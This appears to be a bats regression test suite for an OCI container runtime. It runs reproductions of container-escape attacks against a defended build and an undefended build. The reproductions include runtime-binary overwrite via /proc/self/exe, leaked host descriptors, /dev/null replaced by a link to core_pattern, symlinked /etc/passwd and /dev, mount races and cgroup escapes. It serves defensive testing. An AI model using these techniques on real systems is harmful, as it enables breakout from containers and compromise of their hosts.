#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# The attacks of docs/SECURITY.md's table, each with the defence and without it.
# Run: OCI_RT=build/oci-rt OCI_RT_UNDEFENDED=build-undefended/oci-rt bats tests/hostile/attacks.bats

bats_require_minimum_version 1.5.0

load attack

setup_file() { attack_setup_file; }
setup() { attack_setup; }
teardown() {
	# what an attack that succeeded has made outside
	[ ! -d "/sys/fs/cgroup/pids/$ID-evil" ] || rmdir "/sys/fs/cgroup/pids/$ID-evil"
	[ ! -d "/sys/fs/cgroup/$ID-evil" ] || rmdir "/sys/fs/cgroup/$ID-evil"
	unset OCI_RT_WITHOUT
	container_teardown
}

@test "a normal build has no way to take a defence out" {
	OCI_RT_WITHOUT=nonsense rt --version
	succeeds
	[[ "$output" != *UNDEFENDED* ]]
	not grep -q OCI_RT_WITHOUT "$RT"
	run "$UNDEFENDED" --version
	[[ "$output" == *"UNDEFENDED: for tests/hostile alone, never to be installed"* ]]
	OCI_RT_WITHOUT=nonsense run "$UNDEFENDED" --version
	[ "$status" -eq 2 ]
	DESTDIR="$PWD/dest" run meson install -C "${UNDEFENDED%/*}" --no-rebuild
	[ "$status" -ne 0 ]
	[ -z "$(find dest -path '*/bin/oci-rt' -type f)" ]
}

# CVE-2016-9962
peek() {
	local i
	cp "$ATTACKERS/peek" "$B/rootfs/bin/"
	set_args peek "$$/cmdline"
	start_container
	until_true 3 grep -q ready out
	for i in $(seq 30); do
		"$RT" --root "$ROOT" exec "$ID" true </dev/null >/dev/null 2>&1 3>&- || true
	done
	run cat out
	reached output_has REACHED
}

@test "undumpable: a container reads the descriptors of what exec puts into it (CVE-2016-9962)" {
	proven undumpable peek
}

# CVE-2019-5736: three ways to make the runtime execute itself
with_libraries() {
	local file
	for file in $(ldd "$RT" | grep -o '/[^ ]*'); do
		install -D "$file" "$B/rootfs$file"
	done
	cp "$ATTACKERS/overwrite" "$B/rootfs/bin/"
	cp "$ATTACKERS/preloaded.so" "$B/rootfs/"
	edit '.process.env += ["LD_PRELOAD=/preloaded.so"]'
	cp "$RT" mine
}

# A sleep that is longer than the attacker's patience; ./mine is the runtime that it is after.
overwritten() {
	sleep 0.5
	[ "$(sha256sum <mine)" != "$(sha256sum <"$RT")" ]
}

start_mine() {
	./mine --root "$ROOT" create -b "$B" "$ID" </dev/null >out 2>err 3>&-
	./mine --root "$ROOT" start "$ID" </dev/null 2>>err 3>&-
	cat out err
}

overwrite_by_entry_point() {
	with_libraries
	set_args /proc/self/exe
	start_mine
	reached overwritten
}

overwrite_by_interpreter() {
	with_libraries
	printf '#!/proc/self/exe\n' >"$B/rootfs/bin/script"
	chmod +x "$B/rootfs/bin/script"
	set_args /bin/script
	start_mine
	reached overwritten
}

overwrite_by_exec() {
	with_libraries
	edit '.process.env |= map(select(startswith("LD_PRELOAD") | not))'
	set_args sleep 1000
	start_mine
	rm "$B/rootfs/bin/sh"
	ln -s /proc/self/exe "$B/rootfs/bin/sh"
	./mine --root "$ROOT" exec -d -e LD_PRELOAD=/preloaded.so "$ID" /bin/sh </dev/null >out 2>&1 3>&-
	cat out
	reached overwritten
}

@test "binary: /proc/self/exe as entry point overwrites the runtime (CVE-2019-5736)" {
	proven binary overwrite_by_entry_point
}

@test "binary: /proc/self/exe as interpreter of a script (CVE-2019-5736)" {
	proven binary overwrite_by_interpreter
}

@test "binary: a shell that is a link to /proc/self/exe, while exec runs (CVE-2019-5736)" {
	proven binary overwrite_by_exec
}

# CVE-2019-16884, -19921: what looks like /proc takes the write, and the control is not applied
fake_proc() {
	local name
	mkdir -p fake/sys/net/ipv4 real
	for name in self mounts cgroup $(seq 200); do
		ln -sfn "$PWD/real/$name" "fake/$name"
	done
	: >fake/sys/net/ipv4/ip_forward
	edit '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_args cat /proc/sys/net/ipv4/ip_forward
	# a PID namespace, so that the numbers are small
	run unshare -mpf sh -c 'mount -t proc proc real && mount --bind fake /proc && "$@"' sh \
		"$RT" --root "$ROOT" --cgroup-manager disabled run -b "$B" "$ID"
	echo "$output"
	reached grep -q 1 fake/sys/net/ipv4/ip_forward
	rm -rf fake
}

@test "real-proc: a directory that looks like /proc takes a sysctl (CVE-2019-16884, -19921)" {
	proven real-proc fake_proc
}

# CVE-2025-52881: procfs it is, but not where the write goes
fake_file() {
	: >fake-file
	edit '.linux.sysctl = {"kernel.domainname": "asked"}'
	set_args cat /proc/sys/kernel/domainname
	run unshare -m sh -c 'mount --bind fake-file /proc/sys/kernel/domainname && exec "$@"' sh \
		"$RT" --root "$ROOT" run -b "$B" "$ID"
	echo "$output"
	reached test -s fake-file
}

@test "proc-beneath: a file mounted over a sysctl takes the write (CVE-2025-52881)" {
	proven proc-beneath fake_file
}

# CVE-2021-30465. The hook looks at what was mounted: nothing may be outside of the root.
race() {
	local round swapper rounds=6
	# it is a race: the attacker gets the time that one who wants to win would take
	[ -z "$OCI_RT_WITHOUT" ] || rounds=60
	mkdir -p "$B/rootfs/race/m" "$B/rootfs$OUT"
	ln -s "$OUT" "$B/rootfs/race/l"
	cat >look <<-'SH'
		#!/bin/sh
		pid="$(sed 's/.*"pid": *\([0-9]*\).*/\1/')"
		cat "/proc/$pid/mountinfo" >>"$0.mounts"
	SH
	chmod +x look
	: >look.mounts
	edit --arg hook "$PWD/look" '.hooks.createRuntime = [{path: $hook}]
		| .mounts += [range(300) | {destination: "/race/m", type: "tmpfs", source: "raced"}]'
	set_args true
	"$ATTACKERS/swap" "$B/rootfs/race/m" "$B/rootfs/race/l" 3>&- &
	swapper=$!
	for round in $(seq "$rounds"); do
		"${RACED[@]}" "$RT" --root "$ROOT" run -b "$B" "$ID" </dev/null || true
		[ "$round" -lt 6 ] || [ "$rounds" -eq 6 ] || not grep -qF " $OUT " look.mounts || break
	done
	kill "$swapper"
	wait "$swapper" || true
	echo "$(grep -c raced look.mounts) mounts while the names were swapped"
	[ "$(grep -c raced look.mounts)" -gt 1500 ]
	reached grep -qF " $OUT " look.mounts
}

@test "one-resolution: a mount target is swapped for a link, 1800 times (CVE-2021-30465)" {
	RACED=()
	proven one-resolution race
}

@test "one-resolution: the same without openat2" {
	needs "$PYTHON"
	RACED=("$PYTHON" "$BATS_TEST_DIRNAME/../e2e/without_openat2.py" EPERM)
	proven one-resolution race
}

# CVE-2024-45310
make_outside() {
	ln -s "$OUT" "$B/rootfs/abs"
	edit '.mounts += [{destination: "/abs/made/dir", type: "tmpfs", source: "x"}]'
	set_args true
	rt run -b "$B" "$ID"
	reached test -d "$OUT/made/dir"
}

@test "in-root: directories are made through a link (CVE-2024-45310)" {
	proven in-root make_outside
}

# CVE-2026-41579, -47766
devices_outside() {
	rm -rf "$B/rootfs/dev"
	ln -s "$OUT" "$B/rootfs/dev"
	edit '.mounts |= map(select(.destination | startswith("/dev") | not))'
	set_args true
	rt run -b "$B" "$ID"
	reached test -c "$OUT/null"
}

@test "in-root: /dev is a link, nodes are made on the host (CVE-2026-41579, -47766)" {
	proven in-root devices_outside
}

# Masks fall on the host's files instead of the container's: what was to be hidden is not.
cwd_outside() {
	ln -s "$OUT" "$B/rootfs/abs"
	edit '.process.cwd = "/abs/cwd"'
	set_args true
	rt run -b "$B" "$ID"
	reached test -d "$OUT/cwd"
}

@test "in-root: the working directory is made through a link" {
	proven in-root cwd_outside
}

# CVE-2022-29162: a file's inheritable capability counts for who has it inheritable, too
inherit() {
	needs setcap
	mkdir "$B/rootfs/capped"
	cp "$B/rootfs/bin/busybox" "$B/rootfs/capped/grep"
	setcap cap_dac_override=ei "$B/rootfs/capped/grep"
	edit '.process.noNewPrivileges = false'
	set_args sleep 1000
	start_container
	rt exec --cap CAP_DAC_OVERRIDE --user 1000:1000 "$ID" /capped/grep CapEff /proc/self/status
	reached output_has 0000000000000002
}

@test "inheritable: a user gains a capability by a file's inheritable set (CVE-2022-29162)" {
	proven inheritable inherit
}

# CVE-2023-25809
write_cgroup() {
	local name="$ID-evil" dir=/sys/fs/cgroup
	[ ! -d /sys/fs/cgroup/pids ] || dir=/sys/fs/cgroup/pids
	edit '.linux.namespaces |= map(select(.type != "cgroup"))'
	jq -e '.mounts[] | select(.type == "cgroup") | .options | index("ro")' "$B/config.json" >/dev/null
	# the roots of the hierarchies are mode 0555
	edit '.process.capabilities |= map_values(. + ["CAP_DAC_OVERRIDE"])'
	inside "mkdir $dir/$name"
	echo "$output"
	reached test -d "$dir/$name"
	[ "$REACHED" = no ] || rmdir "$dir/$name"
}

@test "own-cgroup: a container makes a cgroup beside its own (CVE-2023-25809)" {
	proven own-cgroup write_cgroup
}

# CVE-2023-27561: the image keeps /proc, and with it what the runtime believes later
own_proc() {
	mv "$B/rootfs/proc" "$B/rootfs/decoy"
	ln -s /decoy "$B/rootfs/proc"
	inside 'rm /proc && mkdir -p /proc/self/attr && echo fake >/proc/self/attr/exec && cat /proc/self/attr/exec'
	reached output_has fake
}

@test "proc-target: /proc is a link, the container makes a /proc of its own (CVE-2023-27561)" {
	proven proc-target own_proc
}

# CVE-2024-21626
leaked_descriptor() {
	set_args cat /proc/self/fd/7/file
	run bash -c 'exec 7<"$0"; exec "$@"' "$OUT" "$RT" --root "$ROOT" run -b "$B" "$ID"
	reached output_has original
}

leaked_into_exec() {
	set_args sleep 1000
	start_container
	run bash -c 'exec 7<"$0"; exec "$@"' "$OUT" \
		"$RT" --root "$ROOT" exec "$ID" cat /proc/self/fd/7/file
	reached output_has original
}

@test "descriptors: the caller's open directory leaks into the container (CVE-2024-21626)" {
	proven descriptors leaked_descriptor
}

@test "descriptors: the same with exec (CVE-2024-21626)" {
	proven descriptors leaked_into_exec
}

# With its standard input closed, exec's first own descriptor is number 0, which the process's user is given.
is_users() {
	[ "$(stat -c %u "$1")" -eq 1000 ]
}

root_taken() {
	chown 0 "$ROOT"
	set_args sleep 1000
	start_container
	run bash -c 'exec "$@" <&-' - "$RT" --root "$ROOT" exec --user 1000 "$ID" true
	reached is_users "$ROOT"
	chown 0 "$ROOT"
}

@test "standard: the container's user is given the state directory in the place of a closed standard input" {
	proven standard root_taken
}

any_has() {
	cat all
	grep -q bats all
}

cwd_of_host() {
	local n
	set_args cat "$$/cmdline"
	: >all
	for n in $(seq 3 16); do
		edit --arg n "$n" '.process.cwd = "/proc/self/fd/" + $n'
		"$RT" --root "$ROOT" run -b "$B" "$ID" </dev/null 2>/dev/null | tr '\0' ' ' >>all || true
	done
	reached any_has
}

cwd_of_host_by_exec() {
	local n
	set_args sleep 1000
	start_container
	: >all
	for n in $(seq 3 16); do
		"$RT" --root "$ROOT" exec --cwd "/proc/self/fd/$n" "$ID" cat "$$/cmdline" </dev/null \
			2>/dev/null | tr '\0' ' ' >>all || true
	done
	reached any_has
}

@test "cwd-inside: the working directory is /proc/self/fd/N (CVE-2024-21626)" {
	proven cwd-inside cwd_of_host
}

@test "cwd-inside: exec --cwd /proc/self/fd/N (CVE-2024-21626)" {
	proven cwd-inside cwd_of_host_by_exec
}

# CVE-2025-31133. The hook stands for the process that wins the race: it acts where one could.
replaced_null() {
	cat >replace <<-SH
		#!/bin/sh
		rm "$B/rootfs/dev/null" && ln -s /proc/sys/kernel/core_pattern "$B/rootfs/dev/null"
	SH
	chmod +x replace
	edit --arg hook "$PWD/replace" '.hooks.createRuntime = [{path: $hook}]
		| .linux.maskedPaths = ["/proc/version"]
		| .mounts |= map(select(.destination | startswith("/dev") | not))'
	inside '[ -w /proc/version ] && cat /proc/version'
	# a mask reads as nothing; this one could be written, and is the host's
	reached output_has "$(cat /proc/sys/kernel/core_pattern)"
}

@test "host-null: the image's /dev/null masks a file, and is core_pattern (CVE-2025-31133)" {
	proven host-null replaced_null
}

# CVE-2025-52565
console_link() {
	edit '.process.terminal = true | .mounts |= map(select(.destination != "/dev"))'
	ln -s /etc/passwd "$B/rootfs/dev/console"
	set_args sh -c 'test -c /etc/passwd && echo hidden by the terminal'
	run timeout 20 "$PYTHON" "$BATS_TEST_DIRNAME/../e2e/terminal.py" run 20x20 "" \
		"$RT" --root "$ROOT" run -b "$B" "$ID" 3>&-
	reached output_has "hidden by the terminal"
}

@test "console: /dev/console is a link, the terminal covers what it names (CVE-2025-52565)" {
	needs "$PYTHON"
	proven console console_link
}

# CVE-2026-30892
user_by_name() {
	set_args sleep 1000
	start_container
	rt exec --user someone "$ID" id -u
	reached test "$output" = 0
}

@test "numbers: exec --user NAME runs as root (CVE-2026-30892)" {
	proven numbers user_by_name
}

delete_elsewhere() {
	mkdir -p victim
	echo '{}' >victim/config.json
	rt delete --force ../victim
	echo "$output"
	reached test ! -e victim
}

@test "id: delete of ../NAME removes another directory" {
	proven id delete_elsewhere
}

has_cgroup() {
	[ -n "$(find /sys/fs/cgroup -name "$1" -type d -print -quit)" ]
}

leave_subtree() {
	edit --arg p "/$ID-own/../$ID-evil" '.linux.cgroupsPath = $p'
	set_args sleep 1000
	rt_live create -b "$B" "$ID"
	echo "$output"
	reached has_cgroup "$ID-evil"
	rt_live delete --force "$ID"
	find /sys/fs/cgroup -depth \( -name "$ID-own" -o -name "$ID-evil" \) -type d -exec rmdir {} +
}

@test "cgroup-path: a cgroupsPath with .. is a place outside of the one that it names" {
	proven cgroup-path leave_subtree
}

leave_cgroup() {
	local sub=.. line=0:: pid
	[ ! -d /sys/fs/cgroup/pids ] || { sub=pids:.. line=:pids:; }
	set_args sleep 1000
	start_container
	rt_live exec -d --pid-file pid --cgroup "$sub" "$ID" sleep 1000
	echo "$output"
	pid="$(cat pid 2>/dev/null || pid_of "$ID")"
	rm -f pid
	grep "$line" "/proc/$pid/cgroup"
	reached not grep -q "$line.*$ID" "/proc/$pid/cgroup"
	# the cgroup that it left does not end it
	[ "$REACHED" = no ] || kill -KILL "$pid"
}

@test "sub-cgroup: exec --cgroup .. leaves the container's cgroup, and its limits" {
	proven sub-cgroup leave_cgroup
}

freeze_halfway() {
	local dir paths=()
	set_args sleep 1000
	start_container
	# where the word of the kernel is read: of either version
	while read -r dir; do
		paths+=(-P "$dir/freezer.state" -P "$dir/cgroup.events")
	done < <(cgroups_of "$ID")
	run strace -o /dev/null "${paths[@]}" -e inject=read,pread64:error=EIO \
		"$RT" --root "$ROOT" pause "$ID"
	echo "$output"
	[ "$status" -eq 1 ]
	reached has_status "$ID" paused
	[ "$REACHED" = no ] || "$RT" --root "$ROOT" resume "$ID"
}

@test "thaw: a pause that fails leaves the container frozen" {
	needs strace
	proven thaw freeze_halfway
}

kill_another() {
	sleep 1000 3>&- &
	pid=$!
	PIDS+=("$pid")
	write_state "$ID-x" "$pid" "$(($(start_time "$pid") + 1))" false
	rt kill "$ID-x" KILL
	echo "$output"
	sleep 0.2
	reached not kill -0 "$pid"
	rm -rf "${ROOT:?}/$ID-x"
}

@test "start-time: kill hits a process that was given the container's pid" {
	proven start-time kill_another
}

planted_state() {
	fake "$ID-x"
	chmod 0777 "$ROOT"
	rt kill "$ID-x" KILL
	echo "$output"
	sleep 0.2
	reached not kill -0 "$pid"
	chmod 0700 "$ROOT"
	rm -rf "${ROOT:?}/$ID-x"
}

@test "state-owner: a state that anybody could have planted makes root kill a process" {
	proven state-owner planted_state
}

own_null() {
	edit '.mounts |= map(select(.destination | startswith("/dev") | not))'
	: >"$B/rootfs/dev/null"
	inside 'echo secret >/dev/null; cat /dev/null'
	reached output_has secret
}

@test "device: the image's own file in the place of /dev/null collects what is thrown away" {
	proven device own_null
}

copy_secret() {
	mkdir "$B/rootfs/m"
	ln -s "$OUT/file" "$B/rootfs/m/link"
	edit '.mounts += [{destination: "/m", type: "tmpfs", source: "x", options: ["tmpcopyup"]}]'
	set_args cat /m/link
	rt run -b "$B" "$ID"
	reached output_has original
}

@test "copy-up: tmpcopyup copies what a link in the image names on the host" {
	proven copy-up copy_secret
}

hang_on_fifo() {
	rm "$B/rootfs/etc/passwd"
	mkfifo "$B/rootfs/etc/passwd"
	edit '.process.env |= map(select(startswith("HOME=") | not))'
	set_args true
	run timeout -s KILL 3 "$RT" --root "$ROOT" run -b "$B" "$ID"
	reached test "$status" -eq 137
	"$RT" --root "$ROOT" delete --force "$ID"
}

@test "regular-file: /etc/passwd is a FIFO, create hangs" {
	proven regular-file hang_on_fifo
}

# watched NODE: from now on its being opened is seen
watched() {
	rm -f was-opened
	"$ATTACKERS/opened" "$1" was-opened >watch 3>&- &
	PIDS+=($!)
	until_true 5 grep -q ready watch
}

# A watchdog that is opened once brings the host down.
device_as_passwd() {
	mkdir -p "$B/rootfs/etc"
	rm -f "$B/rootfs/etc/passwd"
	mknod "$B/rootfs/etc/passwd" c 1 3
	edit '.process.env |= map(select(startswith("HOME=") | not))'
	set_args sleep 1000
	watched "$B/rootfs/etc/passwd"
	start_container
	rt exec "$ID" true
	succeeds
	sleep 0.2
	reached test -e was-opened
}

@test "regular-file: /etc/passwd is a device, which is opened" {
	proven regular-file device_as_passwd
}

# The names are exchanged between the look at one and its opening.
device_copied_up() {
	local i rounds=60
	[ -z "$OCI_RT_WITHOUT" ] || rounds=600
	mkdir "$B/rootfs/m"
	for i in $(seq 200); do
		echo file >"$B/rootfs/m/$i"
	done
	mknod "$B/rootfs/node" c 1 3
	edit '.mounts += [{destination: "/m", type: "tmpfs", source: "x", options: ["tmpcopyup"]}]'
	set_args true
	watched "$B/rootfs/node"
	"$ATTACKERS/swap" "$B/rootfs/m/100" "$B/rootfs/node" 3>&- &
	PIDS+=($!)
	for i in $(seq "$rounds"); do
		rt run -b "$B" "$ID"
		[ ! -e was-opened ] || break
	done
	echo "$i rounds"
	kill "${PIDS[-1]}"
	reached test -e was-opened
}

@test "regular-file: tmpcopyup opens a device that was a file a moment ago" {
	proven regular-file device_copied_up
}

# The runtime holds a descriptor of the host's procfs, whose number is always the same. $$ stands for a process
# of the host; any would do.
through_procfs() {
	echo "/proc/self/fd/$1/$$/root$2"
}

HELD=(3 4 5 6 7 8 9 10 11 12)

home_of_host() {
	local n homes=
	mkdir -p "$B/rootfs/etc"
	echo "x:x:0:0:x:/of-the-host:/bin/sh" >"$OUT/passwd"
	edit '.process.env |= map(select(startswith("HOME=") | not))'
	for n in "${HELD[@]}"; do
		ln -sfn "$(through_procfs "$n" "$OUT/passwd")" "$B/rootfs/etc/passwd"
		"$@"
		homes+=" $output"
	done
	output="$homes"
	reached output_has of-the-host
}

home_at_create() {
	set_args sh -c 'echo $HOME'
	home_of_host rt run -b "$B" "$ID"
}

home_at_exec() {
	set_args sleep 1000
	start_container
	home_of_host rt exec "$ID" sh -c 'echo $HOME'
}

@test "in-root: /etc/passwd is a link to what a descriptor of the runtime leads to, at create" {
	proven in-root home_at_create
}

@test "in-root: /etc/passwd is a link to what a descriptor of the runtime leads to, at exec" {
	proven in-root home_at_exec
}

terminal_of_host() {
	local n
	edit '.mounts |= map(select(.destination | startswith("/dev") | not))'
	set_args sleep 1000
	start_container
	rm -rf "$B/rootfs/dev/pts"
	for n in "${HELD[@]}"; do
		ln -sfn "$(through_procfs "$n" /dev/pts)" "$B/rootfs/dev/pts"
		rt exec -t "$ID" echo got a terminal
		[[ "$output" != *"got a terminal"* ]] || break
	done
	reached output_has "got a terminal"
}

@test "in-root: /dev/pts is a link to the host's, at exec" {
	proven in-root terminal_of_host
}

# CVE-2024-21626's third way. As a user whose processes the host has as well: the kernel lets it look at those.
program_of_host() {
	local n host outputs=
	setpriv --reuid 1000 --regid 1000 --clear-groups sleep 1000 3>&- &
	host=$!
	PIDS+=("$host")
	edit '.process.user = { uid: 1000, gid: 1000 } | del(.process.capabilities)'
	for n in "${HELD[@]}"; do
		program="/proc/self/fd/$n/$host/root$(command -v busybox)"
		"$@"
		outputs+=" $output"
	done
	output="$outputs"
	reached output_has "of the host"
}

run_program() {
	set_args "$program" echo of the host
	rt run -b "$B" "$ID"
}

exec_program() {
	rt exec "$ID" "$program" echo of the host
}

program_at_create() {
	program_of_host run_program
}

program_at_exec() {
	edit '.process.user = { uid: 1000, gid: 1000 } | del(.process.capabilities)'
	set_args sleep 1000
	start_container
	program_of_host exec_program
}

@test "descriptors: a program of the host by a descriptor of the runtime, at create (CVE-2024-21626)" {
	proven descriptors program_at_create
}

@test "descriptors: a program of the host by a descriptor of the runtime, at exec (CVE-2024-21626)" {
	proven descriptors program_at_exec
}

# A container in the host's PID namespace, of the same rights, sees the first process of one that is only created:
# it is under no filter yet, and a descriptor of the host's procfs would have been a way to write to the host's /proc/sys.
init_of_another() {
	local init
	set_args sleep 1000
	edit '.linux.namespaces -= [{"type": "pid"}]'
	start_container
	make_bundle other
	"$RT" --root "$ROOT" create -b other "$ID-other" </dev/null >out 2>&1 3>&-
	init="$(pid_of "$ID-other")"
	rt exec "$ID" ls "/proc/$init/root/bin"
	reached output_has busybox
	"$RT" --root "$ROOT" delete --force "$ID-other"
	rm -r other
}

@test "undumpable: a container of the host's PID namespace looks into another's first process" {
	proven undumpable init_of_another
}

# leads_outside COMMAND...: before the runtime
leads_outside() {
	local init
	set_args true
	# what is open already stays; with all of it open none would be left to say "created" by
	[ -n "$OCI_RT_WITHOUT" ] || edit '.process.rlimits = [{ type: "RLIMIT_NOFILE", soft: 4, hard: 4 }]'
	"$@" "$RT" --root "$ROOT" --debug --log log create -b "$B" "$ID" </dev/null >out 2>&1 3>&- &
	PIDS+=($!)
	until_true 5 has_status "$ID" created
	init="$(pid_of "$ID")"
	ls -l "/proc/$init/fd"
	reached any_leads_outside "$init"
}

any_leads_outside() {
	local fd
	for fd in "/proc/$1/fd"/*; do
		[ "${fd##*/}" -le 2 ] || [[ "$(readlink "$fd")" == socket:* ]] || return 0
	done
	return 1
}

@test "descriptors: what a created container's first process holds leads to the host" {
	proven descriptors leads_outside env
}

@test "descriptors: the same where an outer container's filter refuses close_range" {
	command -v strace >/dev/null || skip "needs strace"
	proven descriptors leads_outside strace -f -o strace.out -e trace=close_range -e inject=close_range:error=EPERM
}

# A program that is stopped once it runs is the container's own business: -d.
stop_exec() {
	local held=no
	set_args sh -c 'while :; do for p in /proc/[0-9]*; do p=${p#/proc/}; [ $p = 1 ] || kill -STOP $p; done; done 2>/dev/null'
	start_container
	for _ in $(seq 8); do
		status=0
		timeout -s KILL 3 "$RT" --root "$ROOT" exec -d "$ID" sleep 1000 </dev/null >out 2>&1 3>&- ||
			status=$?
		echo "$status $(cat out)"
		[ "$status" -ne 137 ] || held=yes
		[ $held = no ] || break
	done
	reached test $held = yes
}

@test "held: a container stops what exec puts into it, and exec never returns" {
	proven held stop_exec
}
